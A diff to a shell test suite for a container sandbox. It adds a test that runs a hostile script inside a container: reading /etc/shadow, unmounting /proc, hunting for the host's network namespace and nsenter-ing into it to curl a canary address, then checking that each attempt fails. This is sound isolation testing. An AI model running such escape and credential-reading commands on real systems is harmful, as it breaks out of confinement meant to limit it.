@@ -401,6 +401,36 @@ check "teardown leaves no veth and no nft table on the host: $(diff <(echo "$hos
 left=$(ps -e -o pid=,args= | grep -F -e "from-container" -e "$T/container.yaml" | grep -v grep)
 check "... and no process of the recipe ($left)" [ -z "$left" ]
 
+# A hostile "container": the stand-in runs its command on the host's files,
+# so what a container's own root could do with that matters. Once fenced,
+# it uncovers the host's /proc beneath its own (umount, CAP_SYS_ADMIN) and
+# joins the host's network namespace through a host process's
+# /proc/PID/ns/net (setns, CAP_SYS_ADMIN and CAP_SYS_PTRACE), or reads a
+# file only root may (/etc/shadow, as it would a key beside the policy).
+# It looks only for the world's host namespace (by its inode), and tries
+# only the canary.
+hostns=$(world_host readlink /proc/self/ns/net)
+hostile_sh='for i in $(seq 100); do ip route show default | grep -q . && break; sleep 0.1; done
+echo "route: $(ip route show default)"
+echo "uid: $(id -u)"
+head -c 1 /etc/shadow >/dev/null 2>&1 && echo "shadow: readable" || echo "shadow: refused"
+umount -l /proc 2>/dev/null
+t=
+for p in /proc/[0-9]*; do [ "$(readlink "$p/ns/net" 2>/dev/null)" = "$1" ] && { t=$p; break; }; done
+echo "host namespace: ${t:-not found}"
+echo "escape: $(nsenter --net="${t:-/nonexistent}/ns/net" curl -s -m 3 -o /dev/null -w "%{http_code}" http://203.0.113.99/escaped 2>/dev/null || echo failed)"'
+canary0=$(world_canary_count)
+out=$(container --name c4 -- - sh -c "$hostile_sh" sh "$hostns" 2>"$T/container4.err")
+echo "$out" | sed 's/^/# hostile container: /'
+check "a hostile container is fenced ($(grep '^route:' <<<"$out"))" \
+	sh -c "echo '$out' | grep -Eq '^route: default via 10\.231\.'"
+check "... runs as no uid of the host's that owns its files ($(grep '^uid:' <<<"$out"))" \
+	sh -c "! echo '$out' | grep -q '^uid: 0$'"
+check "... cannot read a file only root may (/etc/shadow)" has "$out" "shadow: refused"
+check "... cannot join the host's network namespace through /proc ($(grep '^escape:' <<<"$out"))" \
+	has "$out" "escape: failed"
+check "... the canary saw nothing" [ "$(world_canary_count)" = "$canary0" ]
+
 # Stopped from outside (SIGTERM to the script, as a service manager
 # would): the container first, then sluice; nothing left.
 world_host_bg env SLUICE="$SLUICE" SLUICE_RUNTIME=unshare "$script" --policy "$T/container.yaml" \
